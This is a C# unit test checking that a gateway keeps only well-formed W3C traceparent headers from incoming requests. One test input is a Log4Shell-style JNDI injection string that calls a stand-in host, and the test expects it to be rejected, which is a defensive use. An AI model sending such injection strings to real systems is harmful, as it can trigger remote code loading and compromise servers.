using Gateway.Observability;
using Microsoft.AspNetCore.Http;

namespace Gateway.Tests.Observability;

public class GatewayTracesTests
{
    private const string Valid = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01";

    [Theory]
    [InlineData(Valid, true)]
    [InlineData("00-00000000000000000000000000000000-b7ad6b7169203331-01", false)]
    [InlineData("00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331", false)]
    [InlineData(Valid + "," + Valid, false)]
    [InlineData("${jndi:ldap://evil.example}", false)]
    [InlineData("", false)]
    public void A_context_from_outside_is_kept_when_it_is_one(string parent, bool kept)
    {
        var request = new DefaultHttpContext().Request;
        (request.Headers.TraceParent, request.Headers.TraceState) = (parent, "a=1");
        GatewayTraces.RequestBegan(request)?.Dispose();
        request.Headers.TraceParent.ToString().Should().Be(kept ? parent : "");
        request.Headers.TraceState.Count.Should().Be(kept ? 1 : 0);
    }
}
